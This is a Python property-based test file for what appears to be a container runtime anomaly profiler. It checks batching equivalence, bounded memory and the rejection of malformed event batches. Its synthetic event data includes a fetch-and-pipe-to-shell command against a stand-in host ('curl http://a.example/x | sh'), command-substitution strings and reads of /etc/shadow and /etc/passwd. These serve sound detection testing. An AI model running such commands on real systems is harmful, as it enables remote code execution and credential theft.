# SPDX-License-Identifier: Apache-2.0
"""What is known at a glance is what the whole event says, and nothing is lost by it."""

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from habitus import wire
from habitus.events import Container, Event, File, Network, Peer, Pod, Process
from habitus_batches import IMAGE, START, opened, packed, partition, ready, tokens, told
from habitus_profiler import snapshot
from habitus_profiler.batch import Batch
from habitus_profiler.familiar import Familiar
from habitus_profiler.keys import key_of

ids = st.text("0123456789abcdef", min_size=8, max_size=16) | st.uuids().map(str)
names = st.sampled_from(["java", "sh", "worker-12", "worker-13"])
paths = st.builds(
    "".join,
    st.tuples(st.sampled_from(["/data/", "/etc/", "/proc/", "/tmp/x.", "/usr/bin/", "./"]), ids | names,
              st.sampled_from(["", ".jpg", ".sh", "/in"])),
)  # fmt: skip
words = st.sampled_from(["-c", "-jar", "--id", "42", "a.b.c", "curl http://a.example/x | sh", "it's"])
lines = st.lists(words | ids | paths | ids.map("--id={}".format), min_size=1, max_size=4)
optional = st.none()


processes = st.builds(
    Process,
    pid=st.integers(1, 9),
    name=names | optional,
    exe=st.sampled_from(["/usr/bin/java", "/tmp/java", "memfd:x"]) | optional,
    parent=names | optional,
    ancestors=st.sampled_from([[], ["sh", "tini"]]) | optional,
    argv=lines | st.just([]) | optional,
    exe_class=st.sampled_from(["image", "writable"]) | optional,
    cwd=st.just("/"),
)


files = st.builds(
    File,
    path=paths,
    new_path=paths | optional,
    flags=st.sampled_from([[], ["read"], ["write", "create"]]) | optional,
    bytes=st.integers(0, 9) | optional,
)
addresses = st.sampled_from(["10.0.0.7", "10.0.0.8", "10.1.0.7", "9.9.9.9", "127.0.0.1", "::1", "rubbish"])
peers = st.builds(
    Peer,
    service=st.sampled_from(["db", "web"]) | optional,
    pod=st.just(Pod("web-7c9d8bf5d6-x2lqp", "shop")) | optional,
)
networks = st.builds(
    Network,
    direction=st.sampled_from(["ingress", "egress"]) | optional,
    protocol=st.sampled_from(["tcp", "unix"]) | optional,
    remote_ip=addresses | optional,
    remote_port=st.sampled_from([80, 5432]) | optional,
    local_port=st.sampled_from([80, 40001, 40002]) | optional,
    domain=st.sampled_from(["db.shop.svc", "a.example", ""]) | optional,
    path=paths | optional,
    peer=peers | optional,
)


def events_of(class_, ops, **parts):
    return st.builds(
        Event,
        ts=st.integers(START, START + 10**10),
        node=st.sampled_from(["n1", "n2"]) | optional,
        class_=st.just(class_),
        op=st.sampled_from(ops),
        container=st.sampled_from(["a", "b", None]).map(lambda one: Container(one, image=IMAGE)),
        token=st.binary(min_size=16, max_size=16) | st.just(b""),
        **parts,
    )


execs = events_of("process", ["exec", "exec", "fork", "exit"], process=processes)
uses = events_of("file", ["open", "read", "write", "rename", "close"], process=processes, file=files)
flows = events_of(
    "network", ["connect", "accept", "send", "dns", "close"], process=processes, network=networks
)
events = execs | uses | flows
streams = st.lists(events, min_size=1, max_size=12)


def copied(found):
    """Return the events as another process reads them, so that none is changed in two places."""
    return wire.decode(wire.EventBatch, packed(found)).events


def one_by_one(into, found, sequence):
    """Apply each event whole, by a profile that remembers nothing; return (anomalies, asked, parked)."""
    said = []
    for event in copied(found):
        for profile in into.profiles.values():
            profile.familiar.clear()
        said.append(into.apply([event], sequence))
    return told(*said)


def kept(of):
    """Return what snapshots keep of all profiles."""
    return [
        msgspec.msgpack.decode(snapshot.sealed(profile, "")) for _, profile in sorted(of.profiles.items())
    ]


@given(events)
def test_a_glance_has_the_key_of_the_whole_event_or_none(event):
    """Where it has none the event is read as a whole."""
    [glance] = Batch(packed([event])).glances
    key = glance.key()
    if event.process.name and event.process.parent:
        assert key == key_of(event) is not None
    else:
        assert key in {None, key_of(event)}


@settings(max_examples=300)
@given(streams, st.lists(st.integers(0, 11), max_size=8), streams)
def test_what_a_profile_remembers_changes_nothing_that_it_learns_or_says(found, again, asked):
    """Batches leave the profile, anomalies, questions and verdicts that each event does by itself."""
    learned = [*found, *(found[at % len(found)] for at in again)]
    fast, slow = partition(), partition()
    for at in range(0, len(learned), 5):
        fast.apply_batch(Batch(packed(learned[at : at + 5])), 1)
    one_by_one(slow, learned, 1)
    assert kept(fast) == kept(slow)
    ready(fast)
    ready(slow)
    for stream in (asked, learned, asked):
        assert told(fast.apply_batch(Batch(packed(stream)), 2)) == one_by_one(slow, stream, 2)
        assert tokens(fast) == tokens(slow)
    fleets = [profile.fleet for of in (fast, slow) for profile in of.profiles.values()]
    assert len({fleet.replicas for fleet in fleets}) == 1


PARTS = [(execs, "process"), (uses, "process"), (uses, "file"), (flows, "process"), (flows, "network")]


@st.composite
def pairs(draw):
    """Return an event, and one that differs from it in one field, by what another event has there."""
    kind, part = draw(st.sampled_from(PARTS))
    event, other = draw(kind), draw(kind)
    if part != "process" and draw(st.booleans()):
        return event, msgspec.structs.replace(event, op=other.op)
    mine, its = getattr(event, part), getattr(other, part)
    field = draw(st.sampled_from([name for name in mine.__struct_fields__ if getattr(its, name)] or ["path"]))
    changed = msgspec.structs.replace(mine, **{field: getattr(its, field)})
    return event, msgspec.structs.replace(event, **{part: changed})


@st.composite
def twins(draw):
    """Return two events that differ in ids only, in places where they count and where they do not."""
    first, second = draw(ids), draw(ids)
    place = draw(
        st.sampled_from(
            ["/data/{}.jpg", "/etc/{}", "/proc/{}/mem", "/opt/{}/bin/x", "/tmp/{}", "/usr/bin/{}"]
        )
    )
    line = draw(
        st.sampled_from(
            ["curl http://{}.com/", "node -e {}", "--id={}", "/etc/{}", "{}.sh", "-o {}", "$({})"]
        )
    )
    argv = ["sh", *draw(st.sampled_from([[], ["-c"]])), line]
    made = [
        Event(
            ts=START, class_="process", op="exec", container=Container("a", image=IMAGE),
            process=Process(name="sh", parent="tini", argv=[word.format(each) for word in argv]),
        )
        for each in (first, second)
    ]  # fmt: skip
    return draw(st.sampled_from([made, [opened(place.format(each)) for each in (first, second)]]))


@settings(max_examples=1500)
@given(pairs() | twins(), st.lists(events, max_size=2))
def test_what_is_like_something_remembered_is_judged_by_itself(pair, others):
    """No field on which a verdict depends is missing in the key."""
    fast, slow = partition(), partition()
    for each in (fast, slow):
        one_by_one(each, [pair[0], *others], 1)
        ready(each)
    assert told(fast.apply_batch(Batch(packed([pair[0], *pair])), 2)) == one_by_one(slow, [pair[0], *pair], 2)
    assert tokens(fast) == tokens(slow)


@pytest.fixture
def learned():
    """A partition that learned to open one photo and judges."""
    made = partition()
    made.apply_batch(Batch(packed([opened("/data/img-a7f3a9c1200ab12ef7.jpg"), opened("/data/x")])), 1)
    ready(made)
    return made


def test_ids_never_seen_are_known_at_a_glance_and_fill_no_memory(learned, monkeypatch):
    """One who makes up names in a folder of photos does not push out what is remembered."""
    [profile] = learned.profiles.values()
    batches = [Batch(packed([opened(f"/data/img-a{number:015x}7.jpg")])) for number in range(1000)]
    learned.apply_batch(batches[0], 2)
    monkeypatch.setattr(Batch, "whole", None)  # whoever asks for it fails
    assert all(told(learned.apply_batch(batch, 2)) == ([], [], []) for batch in batches)
    assert len(profile.familiar) == 1


def test_what_is_remembered_is_bounded():
    """The oldest makes no difference: all make room at once."""
    familiar = Familiar()
    for number in range(10_000):
        familiar.remember((number,), None)
    assert len(familiar) <= 4096
    assert (9_999,) in familiar


def test_a_batch_that_was_learned_before_is_not_learned_again(learned):
    """Not at a glance either, once it is remembered."""
    [profile] = learned.profiles.values()
    profile.state = "relearn"
    profile.changed()
    batch = packed([opened("/data/x"), opened("/data/x")])
    learned.apply_batch(Batch(batch), 3)
    profile.applied.add(3)
    before = kept(learned)
    work = learned.apply_batch(Batch(batch), 3)
    assert list(work.learners) == [IMAGE]
    assert kept(learned) == before


def broken(found, at, part, **wrong):
    """Return a message in which one part of an event has what no such part has."""
    message = msgspec.msgpack.decode(packed(found))
    message["events"][at][part] |= wrong
    return msgspec.msgpack.encode(message)


WRONG = [
    ("process", {"pid": "seven"}, "Expected `int | null`"),  # not seen at a glance
    ("process", {"name": 7}, "Expected `str | null`"),  # seen at a glance
    ("container", {"id": 7}, "Expected `str | null`"),  # nobody knows whose it is
]


@pytest.mark.parametrize(("part", "wrong", "why"), WRONG)
def test_an_event_that_cannot_be_read_takes_nothing_with_it(learned, part, wrong, why):
    """The fault names the event, which is kept as it came; what stands before and behind it is judged."""
    stream = [opened("/etc/shadow"), opened("/data/y"), opened("/etc/passwd")]
    data = broken(stream, 1, part, **wrong)
    work = learned.apply_batch(Batch(data), 2)
    assert [anomaly.event.file.path for anomaly in work.anomalies] == ["/etc/shadow", "/etc/passwd"]
    [(raw, fault, name)] = work.unread
    assert msgspec.msgpack.decode(raw) == msgspec.msgpack.decode(data)["events"][1]
    assert fault.startswith(f"event 2 cannot be read: {why}")
    assert name == "2-1"


@pytest.mark.parametrize(("part", "wrong", "why"), WRONG)
def test_a_batch_with_an_event_that_cannot_be_read_is_learned_once(part, wrong, why):
    """Where it comes again after a snapshot that holds it, nothing counts twice."""
    made, data = (
        partition(),
        broken([opened("/data/x"), opened("/data/y"), opened("/data/x")], 1, part, **wrong),
    )
    work = made.apply_batch(Batch(data), 2)
    assert list(work.learners) == [IMAGE]
    made.profiles[IMAGE].applied.add(2)
    before = kept(made)
    again = made.apply_batch(Batch(data), 2)
    assert kept(made) == before
    assert again.unread == work.unread
    assert made.profiles[IMAGE].learning.progress.events == 2
    assert why in work.unread[0][1]


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"\xc1", "not a EventBatch message"),
        (wire.encode(wire.Revisions(images={}, lease_s=1)), "not a EventBatch message"),
        (msgspec.msgpack.encode({"schema": "2.0", "events": 7}), "EventBatch has schema version '2.0'"),
        (msgspec.msgpack.encode({"events": []}), "EventBatch has schema version 'none'"),
    ],
)
def test_what_is_no_batch_is_refused_with_the_reason(data, why):
    """The words are of the message that was to come, not of how much of it is read."""
    with pytest.raises(wire.WireFault, match=why):
        Batch(data)
